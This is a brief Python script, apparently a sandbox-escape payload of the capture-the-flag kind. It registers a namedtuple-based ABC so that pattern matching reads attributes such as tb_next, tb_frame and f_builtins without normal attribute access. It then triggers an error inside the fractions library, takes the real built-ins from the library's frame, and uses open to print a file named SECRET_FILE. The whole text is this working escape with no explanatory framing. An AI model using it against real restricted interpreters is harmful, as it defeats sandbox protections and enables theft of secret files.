# An error inside the library leaves its frames, and a named tuple's pattern reads their real built-ins.
from abc import ABC
from collections import namedtuple
from fractions import Fraction

def read(thing, word):
    class Pattern(namedtuple("P", [word]), ABC):
        pass
    Pattern.register(type(thing))
    match thing:
        case Pattern(value):
            return value

class Catch:
    def __enter__(self):
        return self

    def __exit__(self, kind, error, trace):
        while trace:
            self.last, trace = trace, read(trace, "tb_next")
        return True

with Catch() as catch:
    Fraction("no number")
print(read(read(catch.last, "tb_frame"), "f_builtins")["open"](SECRET_FILE).read())
